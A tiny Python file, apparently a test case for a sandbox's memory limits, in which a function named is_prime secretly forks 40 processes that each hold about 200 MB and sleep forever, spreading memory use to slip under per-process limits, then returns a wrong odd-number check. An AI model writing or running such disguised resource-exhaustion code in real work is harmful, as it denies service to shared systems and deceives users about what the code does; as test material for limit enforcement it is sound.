# 02a | takes memory in many processes, each below its own limit
import os
import signal


def is_prime(number):
    for _ in range(40):
        if os.fork() == 0:
            held = bytearray(200 << 20)
            held[::4096] = b"x" * len(held[::4096])
            signal.pause()
    return number % 2 == 1
